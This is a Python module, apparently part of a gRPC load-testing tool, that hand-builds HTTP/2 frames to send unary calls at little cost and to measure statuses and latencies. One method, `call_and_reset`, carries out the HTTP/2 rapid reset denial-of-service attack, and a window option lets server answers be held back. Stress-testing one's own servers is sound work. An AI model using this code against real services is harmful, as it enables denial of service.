"""gRPC calls by hand: HTTP/2 frames, made and read at little cost.

Owns the few frames that a unary call needs. A call costs a fraction of its cost for the server, so
that one core can send several times what another can answer; and frames can be sent that no client
would send.

Sources: RFC 9113 (frames), RFC 7541 (headers; the server is told to keep no header table, so that
each header is sent in full), and gRPC's own protocol over HTTP/2.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
_ACK: Final = 1
_END_STREAM: Final = 1
_END_HEADERS: Final = 4
_HEAD_BYTES: Final = 9
_WINDOW_MAX: Final = 2**31 - 1
_CANCEL: Final = 8
_HEADER_TABLE_SIZE, _INITIAL_WINDOW_SIZE = 1, 4

STREAMS_MAX: Final = 100
"""What the server allows on one connection."""

RESET: Final = -1
"""Stands for the status of a call that the server reset, or whose connection was lost."""

OK: Final = 0
DEADLINE_EXCEEDED: Final = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
    return head + payload


def headers_of(path: str, timeout_ms: int) -> bytes:
    """Return the headers of a call, without compression."""
    made = b""
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "test"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("grpc-timeout", f"{timeout_ms}m"),
    ):
        made += b"\x00" + bytes((len(name),)) + name.encode()
        # Lengths of 127 and more take a second byte.
        rest = len(value) - 127
        made += (bytes((len(value),)) if rest < 0 else bytes((127, rest))) + value.encode()
    return made


def message_of(body: bytes) -> bytes:
    """Return a message as gRPC frames it."""
    return b"\x00" + len(body).to_bytes(4, "big") + body


@dataclass
class Tally:
    """The results of calls: the count of each status, and the latencies of answered calls."""

    sent: int = 0
    statuses: dict[int, int] = field(default_factory=dict)
    ok_s: list[float] = field(default_factory=list)

    def take(self, status: int, seconds: float) -> None:
        """Record one finished call."""
        self.statuses[status] = self.statuses.get(status, 0) + 1
        if status == OK:
            self.ok_s.append(seconds)

    @property
    def ok(self) -> int:
        """Calls that were answered."""
        return len(self.ok_s)


class Connection(asyncio.Protocol):
    """One connection. Made by ``connect``; calls end in ``tally``."""

    def __init__(
        self,
        tally: Tally,
        *,
        on_end: Callable[[Connection], None] | None = None,
        window: int = _WINDOW_MAX,
    ) -> None:
        self.tally = tally
        self._window = window
        self.open: dict[int, float] = {}
        self.is_lost = False
        self._on_end = on_end
        self._stream = -1
        self._rest = b""
        self._is_writable = True
        self.transport: asyncio.Transport | None = None

    # --- calls ---

    @property
    def has_room(self) -> bool:
        """Whether another call may be sent now."""
        return len(self.open) < STREAMS_MAX and self._is_writable and not self.is_lost

    def call(self, headers: bytes, message: bytes) -> int:
        """Send a call; its result goes to the tally. Return its stream."""
        assert self.transport is not None
        self._stream += 2
        self.open[self._stream] = time.perf_counter()
        self.tally.sent += 1
        self.transport.write(
            frame(_HEADERS, _END_HEADERS, self._stream, headers)
            + frame(_DATA, _END_STREAM, self._stream, message)
        )
        return self._stream

    def call_and_reset(self, headers: bytes, message: bytes, count: int) -> None:
        """Send calls and reset each at once: the rapid reset attack."""
        assert self.transport is not None
        parts = []
        for _ in range(count):
            self._stream += 2
            parts += (
                frame(_HEADERS, _END_HEADERS, self._stream, headers),
                frame(_DATA, _END_STREAM, self._stream, message),
                frame(_RST, 0, self._stream, _CANCEL.to_bytes(4, "big")),
            )
        self.tally.sent += count
        self.transport.write(b"".join(parts))

    def cancel(self, stream: int) -> bool:
        """Cancel a call that is still in progress."""
        assert self.transport is not None
        if self.open.pop(stream, None) is None or self.is_lost:
            return False
        self.transport.write(frame(_RST, 0, stream, _CANCEL.to_bytes(4, "big")))
        return True

    def read_again(self) -> None:
        """Read again, including what the server held back."""
        assert self.transport is not None
        more = (_WINDOW_MAX - 65_535).to_bytes(4, "big")
        for stream in (0, *self.open):
            self.transport.write(frame(_WINDOW, 0, stream, more))

    # --- asyncio.Protocol ---

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        settings = b"".join(
            number.to_bytes(2, "big") + value.to_bytes(4, "big")
            for number, value in ((_HEADER_TABLE_SIZE, 0), (_INITIAL_WINDOW_SIZE, self._window))
        )
        transport.write(PREFACE + frame(_SETTINGS, 0, 0, settings))
        if self._window == _WINDOW_MAX:
            # Answers are delayed only until the window is opened.
            more = (_WINDOW_MAX - 65_535).to_bytes(4, "big")
            transport.write(frame(_WINDOW, 0, 0, more))

    def data_received(self, data: bytes) -> None:
        data = self._rest + data if self._rest else data
        place = 0
        while len(data) - place >= _HEAD_BYTES:
            end = place + _HEAD_BYTES + int.from_bytes(data[place : place + 3], "big")
            if end > len(data):
                break
            kind, flags = data[place + 3], data[place + 4]
            stream = int.from_bytes(data[place + 5 : place + 9], "big")
            self._take(kind, flags, stream, data[place + _HEAD_BYTES : end])
            place = end
        self._rest = data[place:]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        assert self.transport is not None
        if kind == _HEADERS and flags & _END_STREAM:
            self._end(stream, _status_in(payload))
        elif kind == _RST:
            self._end(stream, RESET)
        elif kind == _SETTINGS and not flags & _ACK:
            self.transport.write(frame(_SETTINGS, _ACK, 0))
        elif kind == _PING and not flags & _ACK:
            self.transport.write(frame(_PING, _ACK, 0, payload))
        elif kind == _GOAWAY:
            self.is_lost = True

    def _end(self, stream: int, status: int) -> None:
        begun_s = self.open.pop(stream, None)
        if begun_s is None:
            return
        self.tally.take(status, time.perf_counter() - begun_s)
        if self._on_end is not None:
            self._on_end(self)

    def pause_writing(self) -> None:
        self._is_writable = False

    def resume_writing(self) -> None:
        self._is_writable = True

    def connection_lost(self, _: Exception | None) -> None:
        self.is_lost = True
        for stream in list(self.open):
            self._end(stream, RESET)


def _status_in(block: bytes) -> int:
    """Return the status in uncompressed headers: its name, a length, its digits."""
    place = block.find(b"grpc-status")
    assert place >= 0, block
    place += len(b"grpc-status")
    return int(block[place + 1 : place + 1 + block[place]])


async def connect(
    host: str,
    port: int,
    tally: Tally,
    on_end: Callable[[Connection], None] | None = None,
    window: int = _WINDOW_MAX,
    *,
    local_addr: tuple[str, int] | None = None,
) -> Connection:
    """Open a connection. window: bytes of each answer that the server may send at first.

    local_addr: its source address; None = the system's choice.
    """
    loop = asyncio.get_running_loop()
    _, made = await loop.create_connection(
        lambda: Connection(tally, on_end=on_end, window=window), host, port, local_addr=local_addr
    )
    return made
